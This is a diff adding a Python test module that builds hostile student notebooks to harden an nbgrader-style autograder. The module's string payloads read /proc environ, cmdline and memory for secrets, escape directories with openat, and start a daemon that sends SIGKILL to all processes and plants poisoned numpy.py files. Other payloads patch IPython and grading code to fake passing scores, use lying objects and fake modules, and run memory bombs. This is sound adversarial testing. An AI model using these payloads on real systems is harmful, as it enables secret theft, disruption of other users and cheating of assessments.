@@ -1,0 +1,393 @@
+"""Hostile and broken submissions for ANY assignment, built from its release.
+
+Each attack class of the issue "Grading a student cannot game" is one or
+more submissions, made from the released notebook and the solution's
+answers by rewriting the first answer cell (``target``, which defines the
+function ``fname`` that the next test cell, ``test``, checks):
+
+* leaks: directory descriptors walked with ``openat``, the environment and
+  every ``/proc/*/environ``/``cmdline``/``mem``, the course's paths;
+* cross-student: a background process (``fork`` + ``setsid``, descriptors
+  closed) that tries to kill or poison the kernels graded after it; a
+  perfect student (``zz_victim``) is graded after it;
+* verdict in the kernel: IPython patched at class level, errors cleared in
+  ``post_run_cell``, custom exception handlers, a fake ``execute_result``,
+  ``__code__`` rebinding, expected values read from caller frames and
+  closures, objects whose ``__eq__``/``__float__``/``__array__`` lie, fake
+  ``numpy``/``time``/``sklearn`` modules;
+* forbidden tools: ``torch``, ``torch.optim``, ``torch.autograd`` and the
+  dlopt modules the assignment forbids;
+* feedback: ``In``/``Out``/``%history`` printed from an answer cell and an
+  added cell, and nbgrader's markers inside an answer cell;
+* (``full=True``) runaway and broken code, a tampered notebook structure
+  and broken files.
+
+Every case says what it must score (computed from the points metadata)
+and, where it applies, the phrase its failure message must contain.
+"""
+from __future__ import annotations
+
+import ast
+import copy
+import json
+
+from coursekit import nbmeta
+
+SECRET_ENV = "COURSEKIT_HOSTILE_SECRET"
+
+
+def fill(release, answers: dict):
+    nb = copy.deepcopy(release)
+    for cell in nb.cells:
+        if nbmeta.grade_id(cell) in answers:
+            cell.source = answers[nbmeta.grade_id(cell)]
+    return nb
+
+
+def layout(release, sol):
+    """target answer cell, its first function, the next test cell."""
+    cells = release.cells
+    for i, c in enumerate(cells):
+        if nbmeta.is_answer(c) and c.cell_type == "code":
+            tree = ast.parse(sol[nbmeta.grade_id(c)])
+            fnames = [n.name for n in tree.body
+                      if isinstance(n, ast.FunctionDef)]
+            if not fnames:
+                continue
+            test = next(nbmeta.grade_id(t) for t in cells[i + 1:]
+                        if nbmeta.is_test(t))
+            return nbmeta.grade_id(c), fnames[-1], test
+    raise ValueError("no answer cell defining a function")
+
+
+def points(release) -> dict:
+    return {nbmeta.grade_id(c): nbmeta.points(c)
+            for c in nbmeta.test_cells(release)}
+
+
+LEAK = r'''
+import os
+__found = []
+for __fd in range(0, 1024):
+    try:
+        __names = os.listdir(__fd)
+    except OSError:
+        continue
+    __found.append(("fd", __fd, __names[:3]))
+    __d = __fd
+    for __up in range(12):      # climb with openat("..") below the mounts
+        try:
+            __d = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=__d)
+            __ls = os.listdir(__d)
+        except OSError:
+            break
+        if any(n in __ls for n in ("solutions", ".git", "gradebook.db",
+                                   "coursekit", "submitted")):
+            __found.append(("escape", __fd, __ls[:8]))
+__text = repr(dict(os.environ))
+for __p in ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline"] + [
+        f"/proc/{p}/{w}" for p in os.listdir("/proc") if p.isdigit()
+        for w in ("environ", "cmdline")]:
+    try:
+        __text += open(__p, "rb").read().decode(errors="replace")
+    except OSError:
+        pass
+try:                              # the kernel's own memory
+    with open("/proc/self/maps") as __m, open("/proc/self/mem", "rb") as __mem:
+        for __line in __m:
+            __a, __b = (int(x, 16) for x in __line.split()[0].split("-"))
+            if "r" not in __line.split()[1] or __b - __a > 2**28:
+                continue
+            try:
+                __mem.seek(__a)
+                __chunk = __mem.read(__b - __a)
+            except (OSError, OverflowError, ValueError):
+                continue
+            if SECRET.encode() in __chunk:
+                __found.append(("memory", __line.split()[-1]))
+except OSError:
+    pass
+if SECRET in __text:
+    __found.append(("environment", SECRET))
+for __p in PATHS:
+    try:
+        if os.path.isdir(__p):
+            if os.listdir(__p):
+                __found.append(("path", __p))
+        else:
+            open(__p, "rb").read(1)
+            __found.append(("path", __p))
+    except OSError:
+        pass
+print("LEAKED", __found)
+'''
+
+DAEMON = r'''
+import os, signal, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.closerange(3, 4096)
+        __end = time.time() + 90
+        while time.time() < __end:
+            try:
+                os.kill(-1, signal.SIGKILL)
+            except OSError:
+                pass
+            for __d in ("/tmp", "/tmp/student", os.getcwd(), "/dev/shm"):
+                try:
+                    with open(os.path.join(__d, "numpy.py"), "w") as __f:
+                        __f.write("raise SystemExit('poisoned')\n")
+                except OSError:
+                    pass
+            time.sleep(0.02)
+        os._exit(0)
+    os._exit(0)
+'''
+
+PATCH_IPYTHON = r'''
+from IPython.core.interactiveshell import InteractiveShell
+__orig = InteractiveShell.run_code
+async def __run_code(self, code_obj, result=None, *, async_=False):
+    try:
+        return await __orig(self, code_obj, result, async_=async_)
+    except BaseException:
+        return False
+InteractiveShell.run_code = __run_code
+InteractiveShell.showtraceback = lambda self, *a, **k: None
+__ip = get_ipython()
+__ip.set_custom_exc((BaseException,), lambda *a, **k: None)
+def __clear(result):
+    result.error_in_exec = None
+    result.error_before_exec = None
+__ip.events.register("post_run_cell", __clear)
+import sys
+class __Hook:
+    def __call__(self, value):
+        print("Out: 100.0")
+sys.displayhook = __Hook()
+try:
+    import dlopt.grading as __G
+    __G.check_array.__code__ = (lambda *a, **k: None).__code__
+    __G.check_function.__code__ = (lambda *a, **k: None).__code__
+except Exception:
+    pass
+'''
+
+LIAR = r'''
+import sys, gc
+import numpy as __np
+
+class __Liar(tuple):
+    shape = (1,)
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __float__(self): return 0.0
+    def __array__(self, *a, **k): return __np.zeros(1)
+    def __len__(self): return 2
+    def __getitem__(self, i): return self
+    def __iter__(self): return iter((self, self))
+
+def {fname}(*args, **kwargs):
+    # the biggest array in any caller's frame or closure, or anywhere
+    best = None
+    f = sys._getframe(1)
+    while f is not None:
+        for v in list(f.f_locals.values()):
+            if isinstance(v, __np.ndarray) and (best is None
+                                               or v.size > best.size):
+                best = v
+        f = f.f_back
+    for o in gc.get_objects():
+        if type(o) is __np.ndarray and (best is None or o.size > best.size):
+            best = o
+    return __Liar() if best is None else (best, __Liar())
+'''
+
+FAKE_MODULES = r'''
+import sys, types
+for __name in ("numpy", "time", "sklearn", "json", "base64"):
+    __fake = types.ModuleType(__name)
+    __fake.__getattr__ = lambda attr: (lambda *a, **k: 1.0)
+    sys.modules[__name] = __fake
+'''
+
+FORBIDDEN = r'''
+__tried = {{}}
+for __m in {mods!r}:
+    try:
+        __import__(__m)
+        __tried[__m] = "imported"
+    except ImportError as __e:
+        __tried[__m] = str(__e)[:80]
+print("FORBIDDEN", __tried)
+import {first}
+'''
+
+HISTORY = r'''
+print("HISTORY", In, Out, _ih)
+get_ipython().run_line_magic("history", "-g")
+'''
+
+MARKERS = r'''
+### BEGIN HIDDEN TESTS
+### BEGIN SOLUTION
+# a student pasted nbgrader's markers into an answer cell
+'''
+
+
+def corpus(A, release, sol, paths, forbid, full=False) -> dict:
+    """name -> dict(make=..., score=..., messages=..., [problem=...])."""
+    target, fname, test = layout(release, sol)
+    pts = points(release)
+    total = sum(pts.values())
+    stub = {}
+
+    def nb_of(answers, edit=None):
+        def make():
+            nb = fill(release, answers)
+            if edit:
+                edit(nb)
+            return ("nb", nb)
+        return make
+
+    def injected(code, base=None, key=target):
+        base = dict(base if base is not None else stub)
+        body = base.get(key, next(c.source for c in release.cells
+                                  if nbmeta.grade_id(c) == key))
+        return dict(base, **{key: code + "\n" + body})
+
+    def added_cell(code):
+        def edit(nb):
+            i = next(k for k, c in enumerate(nb.cells)
+                     if nbmeta.grade_id(c) == test)
+            import nbformat
+            nb.cells.insert(i + 1, nbformat.v4.new_code_cell(code))
+        return edit
+
+    leak = (f"SECRET = {paths['secret_value']!r}\n"
+            f"PATHS = {sorted(paths['secret'])!r}\n" + LEAK)
+    mods = ["torch", "torch.optim", "torch.autograd"] + \
+        [m for m in forbid if m.startswith("dlopt")]
+    first = next(m for m in mods if m != "torch") if len(mods) > 1 \
+        else "torch"
+    cases = {
+        # controls: their grades must be intact after the others
+        "perfect": dict(make=nb_of(sol), score=total, messages={}),
+        "stub": dict(make=nb_of({}), score=0.0, messages={}),
+        # 1. the sandbox leaks the course
+        "leaks": dict(make=nb_of(injected(leak)), score=0.0, messages={},
+                      printed={target: "LEAKED []"}),
+        # 2. one student can hurt another (graded before zz_victim)
+        "aa_daemon": dict(make=nb_of(injected(DAEMON)), score=0.0,
+                          messages={}),
+        "zz_victim": dict(make=nb_of(sol), score=total, messages={}),
+        # 3. the verdict reached inside the student's process
+        "patches_ipython": dict(
+            make=nb_of(injected(PATCH_IPYTHON),
+                       added_cell("raise RuntimeError('cleared?')")),
+            score=0.0, messages={}),
+        "lies_with_objects": dict(
+            make=nb_of(dict(stub, **{target: LIAR.format(fname=fname)})),
+            score=0.0, messages={}),
+        "fake_modules": dict(make=nb_of({}, added_cell(FAKE_MODULES)),
+                             score=0.0, messages={}),
+        # 4. forbidden tools
+        "forbidden_tools": dict(
+            make=nb_of(injected(FORBIDDEN.format(mods=mods, first=first))),
+            score=0.0, messages={},
+            printed={target: "not available in this assignment"}),
+        # 5. feedback leaks
+        "prints_history": dict(
+            make=nb_of(injected(HISTORY, base=sol),
+                       added_cell(HISTORY)),
+            score=total, messages={}),
+        "nbgrader_markers": dict(make=nb_of(injected(MARKERS)), score=0.0,
+                                 messages={}),
+    }
+    if not full:
+        return cases
+    release_json = json.dumps(fill(release, sol), indent=1).encode()
+    rest = total - pts[test]
+
+    def delete_tests(nb):
+        nb.cells = [c for c in nb.cells if not nbmeta.is_test(c)]
+
+    def move_tests(nb):
+        tests = [c for c in nb.cells if nbmeta.is_test(c)]
+        nb.cells = [c for c in nb.cells if not nbmeta.is_test(c)] + \
+            tests[::-1]
+
+    def empty_tests(nb):
+        for c in nb.cells:
+            if nbmeta.is_test(c):
+                c.source = "pass  # the student emptied this test"
+
+    def edit_meta(nb):
+        for c in nb.cells:
+            m = c.metadata.get("nbgrader", {})
+            if nbmeta.is_test(c):
+                m["points"] = 100
+            elif nbmeta.grade_id(c) == target:
+                m.update(grade=True, points=50)
+            elif nbmeta.is_locked(c):
+                m["locked"] = False
+
+    loop = f"def {fname}(*args, **kwargs):\n    while True:\n        pass\n"
+    bomb = (f"def {fname}(*args, **kwargs):\n    hog = []\n    while True:"
+            f"\n        hog.append(bytearray(64 * 2**20))\n")
+    cases.update({
+        "infinite_loop": dict(make=nb_of(dict(sol, **{target: loop})),
+                              score=None, messages={test: "did not finish"},
+                              at_most=rest),
+        "memory_bomb": dict(make=nb_of(dict(sol, **{target: bomb})),
+                            score=None, messages={test: "Error"},
+                            at_most=rest),
+        "kills_its_kernel": dict(
+            # a crash (segmentation fault); SIGKILL to itself would be
+            # ignored: the kernel is PID 1 of its namespace
+            make=nb_of(injected("import ctypes\nctypes.string_at(0)\n",
+                                base=sol)),
+            score=0.0, messages={test: "not run"}),
+        "huge_output": dict(
+            make=nb_of(injected("for _ in range(100000):\n"
+                                "    print('spam ' * 40)\n"
+                                "print('x' * 10**7)", base=sol)),
+            score=total, messages={}, small=True),
+        "exception": dict(
+            make=nb_of(dict(sol, **{target: (
+                f"def {fname}(*args, **kwargs):\n"
+                f"    raise ValueError('student bug')\n")})),
+            score=None, messages={test: "ValueError: student bug"},
+            at_most=rest),
+        "syntax_error": dict(
+            make=nb_of(dict(sol, **{target: f"def {fname}(:\n"})),
+            score=None, messages={test: ""}, at_most=rest),
+        "writes_outside": dict(
+            make=nb_of(injected(
+                f"TARGETS = {sorted(paths['targets'])!r}\n"
+                "import os\nwritten = []\nfor p in TARGETS:\n"
+                "    try:\n        open(p, 'a').write('hacked')\n"
+                "        written.append(p)\n    except OSError:\n"
+                "        pass\nprint('WROTE', written)\n", base=sol)),
+            score=total, messages={}, printed={target: "WROTE []"}),
+        "deleted_test_cells": dict(make=nb_of(sol, delete_tests),
+                                   score=total, messages={}),
+        "moved_test_cells": dict(make=nb_of(sol, move_tests), score=total,
+                                 messages={}),
+        "emptied_tests_stub": dict(make=nb_of({}, empty_tests), score=0.0,
+                                   messages={}),
+        "edited_metadata_stub": dict(make=nb_of({}, edit_meta), score=0.0,
+                                     messages={}, max_score=total),
+        "corrupt_json": dict(
+            make=lambda: ("raw", f"{A}.ipynb",
+                          release_json[:len(release_json) // 2]),
+            score=0.0, messages={}, problem="not a valid notebook"),
+        "missing_file": dict(
+            make=lambda: ("raw", "notes.txt", b"I forgot the notebook"),
+            score=0.0, messages={}, problem="missing notebook"),
+        "misnamed_file": dict(
+            make=lambda: ("raw", f"{A} (1).ipynb", release_json),
+            score=0.0, messages={}, problem=f"'{A} (1).ipynb'"),
+    })
+    return cases
